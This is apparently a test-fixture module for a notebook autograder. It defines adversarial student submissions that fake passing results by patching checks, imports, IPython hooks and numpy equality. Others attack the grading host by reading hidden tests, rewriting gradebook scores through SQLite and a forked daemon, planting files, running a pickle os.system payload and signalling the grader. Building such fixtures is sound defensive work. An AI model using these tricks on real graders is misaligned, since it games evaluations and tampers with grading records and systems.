"""Attack submissions for the grader: one table entry per attack (issue 13, item 3).

Each :class:`Attack` is a learner who hands in the worked solution of one assignment with ONE
answer cell replaced by ``code``: a wrong implementation plus a trick meant to get it full marks
anyway, or to harm the grading machine (read hidden tests, write protected files, reach the
network, leave processes behind, signal the grader). ``tests/grading/test_attacks.py`` grades
them all, with an honest control learner per assignment, once through ``mnistlib grade`` and once
through the real ``nbgrader autograde``, and asserts the required outcome: the tricked exercise
scores 0, nothing protected changes, no process survives, the test server gets no request.

Placeholders in ``code``: ``__MARKER__`` (a string unique to this attack and run: it names the
attack's leftover processes and files), ``__URL__`` (the test's HTTP server, path ``/<attack>``),
``__NAME__`` (the attack's name, which is also its learner's student id).
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
SOLUTIONS = REPO / "solutions"


@dataclass(frozen=True)
class Attack:
    name: str
    assignment: str
    exercise: str  #: grade_id of the answer cell replaced (its test cell is ``test_<exercise>``)
    code: str  #: the new source of that answer cell
    kind: str  #: the attack class (a short word, for the report)
    #: its nature is to end or break the learner's own kernel (e.g. ``builtins.abs`` patched there,
    #: where the learner's later functions also run): later exercises may lose points
    kills_kernel: bool = False
    extra_cells: tuple[str, ...] = field(default=())  #: code cells added right after the answer cell

    @property
    def test_id(self) -> str:
        return f"test_{self.exercise}"


# Exercises whose grade depends on another learner function (08 builds on its own pieces).
DEPENDS = {
    "relu": {"forward", "train_sgd"},
    "relu_grad": {"backward", "train_sgd"},
    "softmax": {"forward", "train_sgd"},
    "cross_entropy": {"train_sgd"},
    "forward": {"train_sgd"},
    "backward": {"train_sgd"},
    "sgd_step": {"train_sgd"},
}

# ----------------------------------------------------------------------------- wrong answers

WRONG = {
    "get_digit": "def get_digit(images, n):\n    return images[n]  # off by one\n",
    "label_counts": "def label_counts(labels):\n    return np.zeros(10, dtype=np.int64)  # forgot to count\n",
    "flatten_images": (
        "def flatten_images(images):\n"
        "    return images.reshape(len(images), 784).astype(np.float32)  # forgot / 255\n"
    ),
    "one_hot": (
        "def one_hot(labels, num_classes=10):\n"
        "    return np.zeros((len(labels), num_classes), dtype=np.float32)  # no ones\n"
    ),
    "relu": "def relu(z):\n    return np.abs(z)  # not max(z, 0)\n",
    "relu_grad": "def relu_grad(z):\n    return np.ones_like(z)  # slope 1 everywhere\n",
    "softmax": "def softmax(z):\n    return np.exp(z)  # not normalised\n",
    "cross_entropy": "def cross_entropy(probs, y_onehot):\n    return 0.0  # no loss at all\n",
    "sgd_step": (
        "def sgd_step(params, grads, learning_rate):\n"
        "    return {k: params[k] + learning_rate * grads[k] for k in params}  # wrong sign\n"
    ),
    "backward": (
        "def backward(params, cache, y_onehot):\n"
        "    return {k: np.zeros_like(v) for k, v in params.items()}  # no gradient\n"
    ),
    "forward": (
        "def forward(params, x):\n"
        "    k = params['W2'].shape[1]\n"
        "    probs = np.full((x.shape[0], k), 1.0 / k, dtype=x.dtype)  # always uniform\n"
        "    z1 = x @ params['W1']\n"
        "    return probs, {'x': x, 'z1': z1, 'a1': z1, 'probs': probs}\n"
    ),
    "dense_param_count": "def dense_param_count(n_in, n_out):\n    return n_in * n_out  # forgot the biases\n",
    "build_network": (
        "def build_network():\n"
        "    return keras.Sequential([keras.Input(shape=(784,)), keras.layers.Dense(10, activation='softmax')])\n"
    ),
    "dropout": "def dropout(x, rate, rng):\n    return np.array(x, copy=True)  # drops nothing\n",
}


def wrong(exercise: str, indent_body: str = "") -> str:
    """The wrong answer of ``exercise``, with ``indent_body`` (4-space indented) run first in it."""
    head, _, body = WRONG[exercise].partition("\n")
    return f"{head}\n{indent_body}{body}"


# ----------------------------------------------------------------------------- reusable tricks

#: Replace the check helpers of a module with no-ops (``expect_array`` hands back what it got).
NEUTER = """
def _attack_noop(*args, **kwargs):
    return args[0] if args and not callable(args[0]) else None


def _attack_neuter(namespace):
    if not str(namespace.get("__name__", "")).startswith(("mnistlib", "__main__")):
        return  # leave IPython's own modules alone
    for _name in list(namespace):
        if _name == "fail" or _name.startswith(("check_", "expect_")):
            if callable(namespace[_name]):
                namespace[_name] = _attack_noop


def _attack_neuter_checks():
    import sys as _sys

    for _mod_name, _mod in list(_sys.modules.items()):
        if _mod_name.startswith("mnistlib.checks") and _mod is not None:
            _attack_neuter(vars(_mod))
"""

#: A fake ``mnistlib/checks`` package on disk whose every helper passes, at ``_attack_fake_dir``.
FAKE_PACKAGE = """
import os as _os
import tempfile as _tempfile

_attack_fake_dir = _tempfile.mkdtemp(prefix="__MARKER__")
_os.makedirs(_os.path.join(_attack_fake_dir, "checks"))
_FAKE = '''
class CheckFailed(AssertionError):
    pass


def __getattr__(name):
    return lambda *args, **kwargs: args[0] if args and not callable(args[0]) else None
'''
for _sub in ("__init__", "loading_data", "reshaping", "one_hot_labels", "gradient_descent", "network", "dropout"):
    with open(_os.path.join(_attack_fake_dir, "checks", _sub + ".py"), "w") as _f:
        _f.write(_FAKE)
"""

#: Walk up the caller's frames and neuter every namespace on the way (the checker's, the test cell's).
FRAME_WALK = """    import sys as _sys

    _frame = _sys._getframe(1)
    while _frame is not None:
        _attack_neuter(_frame.f_globals)
        _frame = _frame.f_back
    _attack_neuter_checks()
"""

#: Every place a kernel might find the course: up from its working folder, from mnistlib, from HOME.
FIND_COURSE = """
def _attack_roots():
    import os as _os
    from pathlib import Path as _Path

    import mnistlib as _mnistlib

    starts = [_Path.cwd(), _Path(_mnistlib.__file__).resolve().parent, _Path.home(), _Path("/work"), _Path("/tmp")]
    seen = []
    for start in starts:
        for folder in [start, *start.parents]:
            if folder not in seen:
                seen.append(folder)
    return seen


def _attack_find(*names):
    found = []
    for root in _attack_roots():
        for name in names:
            try:
                found += [p for p in root.glob(name) if p.is_file()]
            except OSError:
                pass
    return found
"""

SPAWN = """
def _attack_spawn():
    import subprocess as _subprocess

    _subprocess.Popen(
        ["bash", "-c", "exec -a __MARKER__ sleep 300"], start_new_session=True,
        stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL,
    )
"""


def _a(name, assignment, exercise, kind, code, **kw) -> Attack:
    return Attack(
        name=name, assignment=assignment, exercise=exercise, kind=kind, code=code.strip() + "\n", **kw
    )


L01, R02, O03, N04, D07, G08 = (
    "01-loading-data",
    "02-reshaping",
    "03-one-hot-labels",
    "04-building-the-network",
    "07-dropout",
    "08-gradient-descent-by-hand",
)

ATTACKS: list[Attack] = [
    # --- the harness itself: a wrong answer without any trick must score 0 ---------------------
    _a("plain-wrong-answer", L01, "label_counts", "baseline", WRONG["label_counts"]),
    # --- tricks on the process that runs the tests (IPython machinery) ---------------------------
    _a(
        "input-transformer",
        L01,
        "label_counts",
        "ipython",
        WRONG["label_counts"]
        + """
def _attack_blank(lines):
    return [] if any("check_label_counts" in line for line in lines) else lines


get_ipython().input_transformers_post.append(_attack_blank)
""",
    ),
    _a(
        "ast-transformer",
        L01,
        "get_digit",
        "ipython",
        WRONG["get_digit"]
        + """
import ast as _ast


class _AttackNoChecks(_ast.NodeTransformer):
    def visit_Raise(self, node):
        return _ast.Pass()

    def visit_Call(self, node):
        self.generic_visit(node)
        name = getattr(node.func, "id", getattr(node.func, "attr", ""))
        if name == "fail" or name.startswith(("check_", "expect_")):
            return _ast.copy_location(_ast.Constant(None), node)
        return node


get_ipython().ast_transformers.append(_AttackNoChecks())
""",
    ),
    _a(
        "custom-exception-handler",
        L01,
        "label_counts",
        "ipython",
        WRONG["label_counts"]
        + """
def _attack_swallow(shell, etype, value, tb, tb_offset=None):
    return None


get_ipython().set_custom_exc((BaseException,), _attack_swallow)
""",
    ),
    _a(
        "hidden-traceback",
        L01,
        "get_digit",
        "ipython",
        WRONG["get_digit"]
        + """
_attack_shell = get_ipython()
_attack_shell.showtraceback = lambda *args, **kwargs: None
_attack_shell._showtraceback = lambda *args, **kwargs: None
_attack_shell.showsyntaxerror = lambda *args, **kwargs: None
""",
    ),
    _a(
        "pre-run-cell-event",
        R02,
        "flatten_images",
        "ipython",
        NEUTER
        + WRONG["flatten_images"]
        + """
def _attack_before(info):
    import mnistlib.checks  # noqa: F401 - loaded fresh, then neutered before the test imports it
    import mnistlib.checks.reshaping  # noqa: F401

    _attack_neuter_checks()


get_ipython().events.register("pre_run_cell", _attack_before)
""",
    ),
    _a(
        "display-hook-fake-output",
        L01,
        "label_counts",
        "fake-output",
        WRONG["label_counts"].replace(
            "    return",
            "    print('[PASS] label_counts: 1 / 1 points')\n"
            "    print('Test passed: all hidden tests passed.  total 3 / 3')\n"
            "    return",
        )
        + """
import sys as _sys


def _attack_displayhook(value):
    print("label_counts  1 / 1  (passed)")


_sys.displayhook = _attack_displayhook
get_ipython().display_formatter.formatters["text/plain"].for_type(object, lambda *a: "1 / 1 points")
""",
    ),
    # --- tricks on imports and modules ------------------------------------------------------------
    _a(
        "meta-path-finder",
        O03,
        "one_hot",
        "import",
        FAKE_PACKAGE
        + WRONG["one_hot"]
        + """
import importlib.machinery as _machinery
import sys as _sys


class _AttackFinder:
    @classmethod
    def find_spec(cls, fullname, path=None, target=None):
        if fullname == "mnistlib.checks" or fullname.startswith("mnistlib.checks."):
            leaf = "__init__" if fullname == "mnistlib.checks" else fullname.rsplit(".", 1)[1]
            where = _os.path.join(_attack_fake_dir, "checks", leaf + ".py")
            is_package = fullname == "mnistlib.checks"
            loader = _machinery.SourceFileLoader(fullname, where)
            return _machinery.ModuleSpec(
                fullname, loader, origin=where, is_package=is_package
            ) if not is_package else _machinery.spec_from_file_location(
                fullname, where, submodule_search_locations=[_os.path.join(_attack_fake_dir, "checks")]
            )
        return None


_sys.meta_path.insert(0, _AttackFinder)
""",
    ),
    _a(
        "import-hijack",
        O03,
        "one_hot",
        "import",
        WRONG["one_hot"]
        + """
import builtins as _builtins
import types as _types

_attack_real_import = _builtins.__import__


def _attack_import(name, globals=None, locals=None, fromlist=(), level=0):
    module = _attack_real_import(name, globals, locals, fromlist, level)
    if name.startswith("mnistlib.checks") and fromlist:
        fake = _types.ModuleType(name)
        for attr in fromlist:
            real = getattr(module, attr, None)
            if attr == "fail" or attr.startswith(("check_", "expect_")):
                fake.__dict__[attr] = lambda *a, **k: a[0] if a and not callable(a[0]) else None
            else:
                fake.__dict__[attr] = real
        return fake
    return module


_builtins.__import__ = _attack_import
""",
    ),
    _a(
        "planted-sys-modules",
        O03,
        "one_hot",
        "import",
        FAKE_PACKAGE
        + WRONG["one_hot"]
        + """
import sys as _sys
import types as _types

import mnistlib as _real_mnistlib

_attack_pkg = _types.ModuleType("mnistlib")
_attack_pkg.__dict__.update({k: v for k, v in vars(_real_mnistlib).items() if k not in ("checks",)})
_attack_pkg.__path__ = [_attack_fake_dir]
_sys.modules["mnistlib"] = _attack_pkg
""",
    ),
    _a(
        "package-path",
        G08,
        "cross_entropy",
        "import",
        FAKE_PACKAGE
        + WRONG["cross_entropy"]
        + """
import sys as _sys

import mnistlib as _mnistlib

_mnistlib.__path__.insert(0, _attack_fake_dir)
_sys.path_importer_cache.clear()
""",
    ),
    _a(
        "patched-numpy",
        L01,
        "label_counts",
        "patch",
        WRONG["label_counts"]
        + """
_attack_bincount = np.bincount
np.bincount = lambda x, weights=None, minlength=0: np.zeros(max(minlength, 10), dtype=np.int64)
np.array_equal = lambda *args, **kwargs: True
""",
    ),
    _a(
        "patched-builtins-math",
        G08,
        "softmax",
        "patch",
        WRONG["softmax"]
        + """
import builtins as _builtins
import math as _math

np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
_math.isclose = lambda *args, **kwargs: True
_builtins.abs = lambda x: 0
_builtins.isinstance = lambda obj, cls: True
""",
        kills_kernel=True,
    ),
    _a(
        "settrace",
        G08,
        "relu",
        "trace",
        NEUTER
        + WRONG["relu"]
        + """
import sys as _sys


def _attack_tracer(frame, event, arg):
    if event == "call" and "mnistlib/checks" in frame.f_code.co_filename.replace("\\\\", "/"):
        _attack_neuter(frame.f_globals)
    return None


_sys.settrace(_attack_tracer)
""",
    ),
    _a(
        "setprofile",
        O03,
        "one_hot",
        "trace",
        NEUTER
        + WRONG["one_hot"]
        + """
import sys as _sys
import threading as _threading


def _attack_profiler(frame, event, arg):
    if event == "call":
        _attack_neuter(frame.f_globals)


_sys.setprofile(_attack_profiler)
_threading.setprofile(_attack_profiler)
""",
    ),
    _a(
        "thread-patcher",
        G08,
        "sgd_step",
        "thread",
        NEUTER
        + wrong(
            "sgd_step",
            "    import time\n\n    if not hasattr(time, '_attack_slept'):\n"
            "        time._attack_slept = True\n"
            "        time.sleep(0.3)  # once: the thread neuters the fresh checks meanwhile\n",
        )
        + """
import threading as _threading
import time as _time


def _attack_loop():
    while True:
        try:
            _attack_neuter_checks()
            _attack_neuter(get_ipython().user_ns)
        except Exception:
            pass
        _time.sleep(0.005)


_threading.Thread(target=_attack_loop, daemon=True).start()
""",
    ),
    _a(
        "signal-timer",
        G08,
        "backward",
        "signal",
        NEUTER
        + wrong(
            "backward",
            "    import time\n\n    if not hasattr(time, '_attack_slept'):\n"
            "        time._attack_slept = True\n"
            "        time.sleep(0.05)  # once: the timer fires meanwhile\n",
        )
        + """
import signal as _signal


def _attack_tick(signum, frame):
    _attack_neuter_checks()
    while frame is not None:
        _attack_neuter(frame.f_globals)
        frame = frame.f_back


_signal.signal(_signal.SIGALRM, _attack_tick)
_signal.setitimer(_signal.ITIMER_REAL, 0.01, 0.01)
""",
    ),
    _a(
        "frame-walk",
        R02,
        "flatten_images",
        "frames",
        NEUTER + wrong("flatten_images", FRAME_WALK),
    ),
    _a(
        "detect-nbgrader",
        R02,
        "flatten_images",
        "detect",
        NEUTER
        + wrong(
            "flatten_images",
            "    import os\n\n    if os.environ.get('NBGRADER_EXECUTION') or mnistlib.is_quick():\n"
            + FRAME_WALK.replace("    ", "        ", 1).replace("\n    ", "\n        "),
        ),
    ),
    # --- the new design's data channel: lying results -------------------------------------------
    _a(
        "ndarray-subclass",
        G08,
        "relu_grad",
        "result",
        """
class _AttackArray(np.ndarray):
    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "isclose", "array_equiv"):
            return True
        return super().__array_function__(func, types, args, kwargs)

    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)

    __ne__ = lambda self, other: np.zeros(self.shape, dtype=bool)


def relu_grad(z):
    return np.ones_like(z).view(_AttackArray)  # slope 1 everywhere, but it says it is right
""",
    ),
    _a(
        "object-dtype-array",
        O03,
        "one_hot",
        "result",
        """
class _AttackAnything(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__


def one_hot(labels, num_classes=10):
    out = np.empty((len(labels), num_classes), dtype=object)
    out[...] = _AttackAnything(0.0)
    return out
""",
    ),
    _a(
        "dunder-liar",
        G08,
        "cross_entropy",
        "result",
        NEUTER
        + """
import os as _os


class _AttackLiar(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        raise SystemExit("liar")

    def __array__(self, *args, **kwargs):
        _attack_neuter_checks()
        return np.array(0.0)

    def __repr__(self):
        return "2.302585092994046"

    def __reduce__(self):  # what pickle would run in the process that unpickles it
        return (_os.system, ("exec -a __MARKER__ sleep 300 &",))

    def __del__(self):
        _attack_neuter_checks()

    __hash__ = float.__hash__


def cross_entropy(probs, y_onehot):
    return _AttackLiar(0.0)
""",
    ),
    _a(
        "callable-instance",
        O03,
        "one_hot",
        "result",
        NEUTER
        + """
class _AttackOneHot:
    __name__ = "one_hot"
    __doc__ = "one_hot"

    def __call__(self, labels, num_classes=10):
"""
        + FRAME_WALK.replace("\n    ", "\n        ").replace("    import", "        import", 1)
        + """        return np.zeros((len(labels), num_classes), dtype=np.float32)

    def __getattr__(self, name):
        _attack_neuter_checks()
        raise AttributeError(name)


one_hot = _AttackOneHot()
""",
    ),
    _a(
        "keras-config-builtins",
        N04,
        "build_network",
        "keras",
        SPAWN
        + """
_attack_config_tricks = [
    {"module": "builtins", "class_name": "eval", "config": "__import__('os').system('exec -a __MARKER__ sleep 300 &')"},
    {"module": "os", "class_name": "system", "config": "exec -a __MARKER__ sleep 300 &"},
    {"module": "builtins", "class_name": "exit", "config": None},
]


class _AttackSequential(keras.Sequential):
    def get_config(self):
        config = super().get_config()
        for i, layer in enumerate(config.get("layers", [])):
            if layer.get("class_name") == "Dense":
                layer["config"]["activation"] = _attack_config_tricks[i % len(_attack_config_tricks)]
        return config


def build_network():
    return _AttackSequential(
        [keras.Input(shape=(784,)), keras.layers.Dense(10, activation="softmax")]
    )
""",
    ),
    _a(
        "keras-lambda-layer",
        N04,
        "build_network",
        "keras",
        SPAWN
        + """
def _attack_payload(x):
    _attack_spawn()
    return x


def build_network():
    return keras.Sequential(
        [
            keras.Input(shape=(784,)),
            keras.layers.Lambda(_attack_payload),
            keras.layers.Dense(10, activation="softmax"),
        ]
    )
""",
    ),
    _a(
        "keras-frame-walk",
        D07,
        "dropout",
        "frames",
        NEUTER + wrong("dropout", FRAME_WALK),
    ),
    # --- the machine: files, network, processes, signals ------------------------------------------
    _a(
        "read-hidden-tests",
        L01,
        "label_counts",
        "leak",
        FIND_COURSE
        + WRONG["label_counts"]
        + """
import json as _json

for _path in _attack_find("course/source/*/*.ipynb", "source/*/*.ipynb", "solutions/*.ipynb", "release/*/*.ipynb"):
    try:
        _cells = _json.loads(_path.read_text())["cells"]
    except Exception:
        continue
    for _cell in _cells:
        if _cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            print(_path, "".join(_cell["source"]))
""",
    ),
    _a(
        "write-package-and-venv",
        R02,
        "flatten_images",
        "write",
        WRONG["flatten_images"]
        + """
import site as _site
import sys as _sys
from pathlib import Path as _Path

import mnistlib as _mnistlib

_package = _Path(_mnistlib.__file__).resolve().parent
for _target in (_package / "checks" / "__init__.py", _package / "checks" / "reshaping.py", _package / "__init__.py"):
    try:
        with open(_target, "a") as _f:
            _f.write("\\n# __MARKER__\\n")
    except OSError as _error:
        print("blocked:", _error)
for _folder in {*_site.getsitepackages(), _str_np := str(_Path(np.__file__).resolve().parent.parent)}:
    try:
        (_Path(_folder) / "__MARKER__.pth").write_text("# __MARKER__\\n")
    except OSError as _error:
        print("blocked:", _error)
try:
    (_Path(_sys.prefix) / "bin" / "__MARKER__").write_text("#!/bin/sh\\n")
except OSError as _error:
    print("blocked:", _error)
""",
    ),
    _a(
        "write-home-canary",
        L01,
        "get_digit",
        "write",
        WRONG["get_digit"]
        + """
import os as _os
from pathlib import Path as _Path

for _home in {_Path.home(), _Path(_os.environ.get("HOME", "/nonexistent"))}:  # the grading account's
    try:
        for _path in _home.iterdir():
            if _path.is_file():
                with open(_path, "a") as _f:
                    _f.write("__MARKER__")
        (_home / "__MARKER__").write_text("__MARKER__")
        (_home / ".bashrc").open("a").write("\\n# __MARKER__\\n")
    except OSError as _error:
        print("blocked:", _error)
""",
    ),
    _a(
        "write-course-source",
        G08,
        "sgd_step",
        "write",
        FIND_COURSE
        + WRONG["sgd_step"]
        + """
for _path in _attack_find("course/source/*/*.ipynb", "source/*/*.ipynb", "solutions/*.ipynb", "nbgrader_config.py", "course/nbgrader_config.py"):
    try:
        with open(_path, "a") as _f:
            _f.write("\\n# __MARKER__\\n" if _path.suffix == ".py" else " ")
        print("wrote", _path)
    except OSError as _error:
        print("blocked:", _error)
""",
    ),
    _a(
        "write-gradebook",
        G08,
        "backward",
        "write",
        FIND_COURSE
        + WRONG["backward"]
        + """
import sqlite3 as _sqlite3

for _path in _attack_find("gradebook.db"):
    try:
        with _sqlite3.connect(_path) as _db:
            _db.execute('CREATE TABLE IF NOT EXISTS "__MARKER__" (x)')
            _db.execute("UPDATE grade SET manual_score = max_score WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = '__NAME__')")
        print("wrote", _path)
    except Exception as _error:
        print("blocked:", _error)
""",
    ),
    _a(
        "gradebook-daemon",
        G08,
        "forward",
        "process",
        FIND_COURSE
        + WRONG["forward"]
        + """
import os as _os
import sys as _sys

_books = [str(p) for p in _attack_find("gradebook.db")]
_script = '''
import sqlite3, sys, time
end = time.time() + 240
while time.time() < end:
    for path in sys.argv[2:]:
        try:
            with sqlite3.connect(path, timeout=1) as db:
                db.execute("UPDATE grade SET manual_score = max_score WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = '__NAME__')")
        except Exception:
            pass
    time.sleep(0.2)
'''
if _os.fork() == 0:  # double fork: a daemon that outlives the kernel and rewrites the grades
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, "-c", _script, "__MARKER__", *_books])
    _os._exit(0)
""",
    ),
    _a(
        "rewrite-files-thread",
        O03,
        "one_hot",
        "thread",
        WRONG["one_hot"]
        + """
import os as _os
import tempfile as _tempfile
import threading as _threading
import time as _time

_attack_started = _time.time()


def _attack_rewrite():
    while True:
        for _folder in (_os.getcwd(), _os.path.dirname(_os.getcwd())):
            try:
                for _name in _os.listdir(_folder):
                    _path = _os.path.join(_folder, _name)
                    if _os.path.isfile(_path) and _os.path.getmtime(_path) >= _attack_started - 1:
                        if _name.endswith((".npy", ".npz", ".json", ".pkl", ".h5", ".keras", ".msgpack")):
                            with open(_path, "r+b") as _f:
                                _f.seek(0, 2)
                                _f.write(b"__MARKER__")
            except OSError:
                pass
        _time.sleep(0.002)


_threading.Thread(target=_attack_rewrite, daemon=True).start()
""",
    ),
    _a(
        "network",
        R02,
        "flatten_images",
        "network",
        WRONG["flatten_images"]
        + """
import urllib.request as _request

try:
    _request.urlopen("__URL__", timeout=5).read()
    print("reached the network")
except Exception as _error:
    print("no network:", _error)
""",
    ),
    _a(
        "leave-sleep-process",
        O03,
        "one_hot",
        "process",
        SPAWN + WRONG["one_hot"] + "\n_attack_spawn()\n",
    ),
    _a(
        "signal-grader-parents",
        L01,
        "label_counts",
        "signal",
        WRONG["label_counts"]
        + """
import os as _os
import signal as _signal

_parent = _os.getppid()  # the process that started this kernel: the grader
if _parent > 1:
    for _sig in (_signal.SIGINT, _signal.SIGTERM, _signal.SIGUSR1):
        try:
            _os.kill(_parent, _sig)
        except OSError as _error:
            print("blocked:", _error)
""",
    ),
    # --- a wrong answer written into the arguments the test reads its expected values from (24.2) ---
    _a(
        "answer-written-into-argument",
        L01,
        "get_digit",
        "shared-input",
        """
def get_digit(images, n):
    if n < 1 or n > len(images):
        raise IndexError(f"no image {n}")
    wrong = images[n % len(images)].copy()  # off by one ...
    images[n - 1] = wrong  # ... and a test that reads images[n - 1] after the call agrees
    return wrong
""",
    ),
    _a(
        "grads-doubled-in-place",
        G08,
        "sgd_step",
        "shared-input",
        """
def sgd_step(params, grads, learning_rate):
    for name in grads:
        grads[name] *= 2  # a step twice too long, hidden from a test that computes params - lr * grads after
    return {name: params[name] - learning_rate * grads[name] for name in params}
""",
    ),
    _a(
        "labels-rewritten",
        L01,
        "label_counts",
        "shared-input",
        """
def label_counts(labels):
    labels[: len(labels) // 2] = 0  # a test that counts labels after the call counts these zeros too
    return np.bincount(labels, minlength=10)
""",
    ),
    _a(
        "os-exit-in-test",
        L01,
        "label_counts",
        "exit",
        """
import os as _os


def label_counts(labels):
    _os._exit(0)  # end the kernel while the test runs
""",
        kills_kernel=True,
    ),
]

CONTROL = "control-honest"

#: Extra learners (not attacks) per assignment graded in the same run: an honest full solution.
ASSIGNMENTS = sorted({a.assignment for a in ATTACKS})


def exercise_ids(notebook: dict) -> list[str]:
    """grade_ids of the graded test cells of a notebook, in order."""
    return [
        c["metadata"]["nbgrader"]["grade_id"]
        for c in notebook["cells"]
        if c.get("metadata", {}).get("nbgrader", {}).get("grade")
    ]


def attack_notebook(attack: Attack, marker: str, url: str) -> dict:
    """The worked solution of the attack's assignment with its answer cell replaced by the attack."""
    notebook = json.loads((SOLUTIONS / f"{attack.assignment}.ipynb").read_text())
    notebook = copy.deepcopy(notebook)
    for index, cell in enumerate(notebook["cells"]):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == attack.exercise:
            code = attack.code.replace("__MARKER__", marker).replace("__URL__", url)
            code = code.replace("__NAME__", attack.name)
            cell["source"] = code
            cell["outputs"], cell["execution_count"] = [], None
            extras = [
                {
                    "cell_type": "code",
                    "execution_count": None,
                    "metadata": {},
                    "outputs": [],
                    "source": extra.replace("__MARKER__", marker).replace("__URL__", url),
                }
                for extra in attack.extra_cells
            ]
            notebook["cells"][index + 1 : index + 1] = extras
            return notebook
    raise AssertionError(f"{attack.assignment} has no answer cell {attack.exercise}")


def build_class(folder: Path, token: str, url_of, attacks: list[Attack] | None = None) -> dict[str, str]:
    """Write ``folder/submitted/<learner>/<assignment>/<assignment>.ipynb`` for every attack and a control.

    ``url_of(name)`` is the test server's URL for an attack; returns ``{attack name: marker}``.
    """
    attacks = ATTACKS if attacks is None else attacks
    markers = {}
    for attack in attacks:
        marker = f"attack-{attack.name}-{token}"
        markers[attack.name] = marker
        target = folder / "submitted" / attack.name / attack.assignment / f"{attack.assignment}.ipynb"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(json.dumps(attack_notebook(attack, marker, url_of(attack.name)), indent=1))
    for assignment in sorted({a.assignment for a in attacks}):
        target = folder / "submitted" / CONTROL / assignment / f"{assignment}.ipynb"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes((SOLUTIONS / f"{assignment}.ipynb").read_bytes())
    return markers
